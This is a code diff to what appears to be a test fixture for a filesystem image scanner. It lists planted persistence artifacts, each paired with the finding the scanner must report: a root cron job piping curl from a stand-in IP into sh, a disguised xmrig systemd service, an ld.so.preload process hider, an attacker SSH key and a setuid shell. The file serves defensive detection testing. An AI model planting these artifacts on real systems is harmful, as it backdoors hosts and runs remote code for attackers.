@@ -19,14 +19,14 @@ export const DELETED = [
 ] as const
 
 /** Persistence and file-mode tricks planted in layer 1, with the finding each must give. */
-export const PLANTED_FACTS: readonly { path: string; id: string; file: FileSpec }[] = [
+export const PLANTED_FACTS: readonly { path: string; id: string; file: FileSpec; at?: string }[] = [
   { path: 'etc/cron.d/sysupdate', id: 'persistence-cron', file: '*/10 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n' },
   { path: 'etc/systemd/system/kworker.service', id: 'persistence-systemd', file: '[Unit]\nDescription=kworker\n[Service]\nExecStart=/opt/.x/xmrig\nRestart=always\n[Install]\nWantedBy=multi-user.target\n' },
   { path: 'etc/ld.so.preload', id: 'ld-preload', file: '/usr/local/lib/libprocesshider.so\n' },
   { path: 'root/.ssh/authorized_keys', id: 'ssh-authorized-keys', file: 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFn5pWcuyy1bOe0F8XGnBw6rfTvbm6q1MxwYAQ3bzx0y attacker@box\n' },
   { path: 'usr/local/bin/.suid-sh', id: 'setuid-unowned', file: { content: '#!/bin/sh\nexec /bin/sh -p\n', mode: 0o4755 } },
   { path: 'srv/shared/upload.cfg', id: 'IMG-009', file: { content: 'writable=yes\n', mode: 0o666 } },
-  { path: 'var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease', id: 'IMG-008', file: 'Origin: Debian\n' },
+  { path: 'var/lib/apt/lists/deb.debian.org_debian_dists_bookworm_InRelease', id: 'IMG-008', file: 'Origin: Debian\n', at: 'var/lib/apt/lists' },
   { path: 'usr/bin/sudo', id: 'IMG-010', file: { content: Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), mode: 0o4755 } },
 ]
 
